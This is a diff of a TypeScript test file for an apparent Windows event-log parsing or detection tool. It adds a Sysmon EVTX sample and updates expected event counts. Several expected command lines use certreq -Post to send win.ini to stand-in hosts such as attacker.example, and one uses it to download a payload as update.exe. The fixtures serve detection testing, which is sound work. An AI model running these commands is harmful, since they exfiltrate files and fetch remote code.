@@ -7,14 +7,14 @@ import { decodeFile, expandInputs, type InputFile } from '../../src/formats/inde
 import { formatDecodeError } from '../../src/model/event.js';
 import { toProcessEvent } from '../../src/model/toProcess.js';
 
-test('samples/: four dialects, 22 events, 20 process events, one malformed line reported', async () => {
+test('samples/: five dialects, 39 events, 30 process events, one malformed line reported', async () => {
   const files: InputFile[] = [];
   for await (const item of expandInputs([join(repoRoot, 'samples')])) {
     assert.ok(!('error' in item));
     files.push(item);
   }
   const names = files.map((f) => f.path.slice(f.path.lastIndexOf('/') + 1));
-  assert.deepEqual(names, ['evtx-dump-ws04.jsonl.gz', 'security-ws03.xml', 'sysmon-ws01.xml', 'winlogbeat-ws02.ndjson']);
+  assert.deepEqual(names, ['evtx-dump-ws04.jsonl.gz', 'security-ws03.xml', 'sysmon-ws01.xml', 'sysmon-ws05.evtx', 'winlogbeat-ws02.ndjson']);
   const perFile = new Map<string, { events: number; dialects: Set<string> }>();
   const processEvents = [];
   const errors: string[] = [];
@@ -34,10 +34,11 @@ test('samples/: four dialects, 22 events, 20 process events, one malformed line 
       ['evtx-dump-ws04.jsonl.gz', 3, ['evtx_dump']],
       ['security-ws03.xml', 5, ['xml']],
       ['sysmon-ws01.xml', 10, ['xml']],
+      ['sysmon-ws05.evtx', 17, ['evtx']],
       ['winlogbeat-ws02.ndjson', 4, ['winlogbeat']],
     ],
   );
-  assert.equal(processEvents.length, 20);
+  assert.equal(processEvents.length, 30);
   const certreqStarts = processEvents.filter((p) => p.kind === 'start' && (/certreq/i.test(p.process.pe?.original_file_name ?? '') || /certreq/i.test(p.process.name ?? '')));
   assert.deepEqual(
     certreqStarts.map((p) => [p.host.name, p.process.name, p.process.command_line]),
@@ -48,6 +49,9 @@ test('samples/: four dialects, 22 events, 20 process events, one malformed line 
       ['WS01.corp.example', 'certreq.exe', 'certreq -Post -config https://attacker.example/ c:\\windows\\win.ini out.txt'],
       ['WS01.corp.example', 'cr.exe', 'cr.exe -Post -config https://attacker.example/stage c:\\windows\\win.ini C:\\Users\\Public\\stage.txt'],
       ['SRV-ADM01.corp.example', 'certreq.exe', 'certreq -submit -config "CA01\\Corp-CA" req.csr'],
+      ['WS05.corp.example', 'certreq.exe', 'certreq.exe -Post -config https://files.example-cdn.net/upload C:\\Windows\\win.ini C:\\Users\\Public\\resp.txt'],
+      ['WS05.corp.example', 'certreq.exe', 'certreq -Post -config http://files.example-cdn.net/p.bin C:\\Windows\\win.ini C:\\Users\\Public\\update.exe'],
+      ['WS05.corp.example', 'certreq.exe', 'certreq.exe -submit -config "CA01.corp.example\\Corp Issuing CA" C:\\PKI\\web01.req C:\\PKI\\web01.cer'],
       ['WS02.corp.example', 'certreq.exe', 'certreq.exe -Post -config http://198.51.100.7:8080/upload C:\\Windows\\win.ini resp.txt'],
     ],
   );
